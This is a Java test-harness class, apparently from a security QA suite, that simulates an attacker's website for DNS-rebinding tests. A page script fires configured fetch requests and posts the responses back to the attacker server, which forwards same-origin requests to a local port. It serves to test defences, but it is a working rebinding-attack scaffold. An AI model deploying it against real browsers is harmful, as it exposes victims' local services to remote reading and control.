package dev.agentstudio.qa.security;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.agentstudio.qa.harness.Json;
import dev.agentstudio.qa.harness.RawRequest;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;

/**
 * The web site of an attacker. Its page sends requests and reports their outcome. Requests of the page to its own site are passed
 * on, with the site's own name, to a server of this machine: just what a browser does once the name was made to point there.
 */
final class AttackerSite implements AutoCloseable {
    private static final Duration TIMEOUT = Duration.ofMinutes(2);

    private static final String PAGE = """
            <!doctype html><title>Attack</title><script>
            const attempts = ATTEMPTS;
            async function attempt(one) {
              try {
                const answer = await fetch(one.url, one.init);
                return {url: one.url, type: answer.type, status: answer.status, text: (await answer.text()).slice(0, 2000)};
              } catch (refused) {
                return {url: one.url, type: 'error', status: 0, text: String(refused)};
              }
            }
            (async () => {
              const results = [];
              for (const one of attempts) results.push(await attempt(one));
              await fetch('/results', {method: 'POST', body: JSON.stringify(results)});
            })();
            </script>""";

    private final HttpServer server;
    private final int rebound;
    private final String page;
    private final CompletableFuture<JsonNode> results = new CompletableFuture<>();

    /**
     * Opens the site.
     *
     * @param rebound port of the server that the site's name is made to point to
     * @param attempts what the page does, each with a {@code url} and the {@code init} of a fetch
     */
    AttackerSite(int rebound, ArrayNode attempts) {
        this.rebound = rebound;
        this.page = PAGE.replace("ATTEMPTS", attempts.toString());
        try {
            server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
        server.createContext("/page", exchange -> answer(exchange, 200, "text/html", page));
        server.createContext("/results", exchange -> {
            results.complete(Json.parse(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8)));
            answer(exchange, 200, "text/plain", "");
        });
        server.createContext("/", this::handOn);
        server.start();
    }

    String url() {
        return "http://%s:%d/page".formatted(Browser.EVIL, server.getAddress().getPort());
    }

    /** The outcome of every attempt. */
    JsonNode awaitResults() {
        return results.orTimeout(TIMEOUT.toSeconds(), TimeUnit.SECONDS).join();
    }

    @Override
    public void close() {
        server.stop(0);
    }

    private void handOn(HttpExchange exchange) throws IOException {
        byte[] body = exchange.getRequestBody().readAllBytes();
        StringBuilder request = new StringBuilder(
                exchange.getRequestMethod() + " " + exchange.getRequestURI() + " HTTP/1.1\r\nConnection: close\r\n");
        exchange.getRequestHeaders().forEach((name, values) -> {
            if (!name.equalsIgnoreCase("Connection")) {
                values.forEach(
                        value -> request.append(name).append(": ").append(value).append("\r\n"));
            }
        });
        String answer = RawRequest.exchange(rebound, request + "\r\n" + new String(body, StandardCharsets.UTF_8));
        answer(exchange, Integer.parseInt(answer.split(" ", 3)[1]), "text/plain", answer);
    }

    private static void answer(HttpExchange exchange, int status, String type, String text) throws IOException {
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().set("Content-Type", type);
        exchange.sendResponseHeaders(status, bytes.length == 0 ? -1 : bytes.length);
        exchange.getResponseBody().write(bytes);
        exchange.close();
    }
}
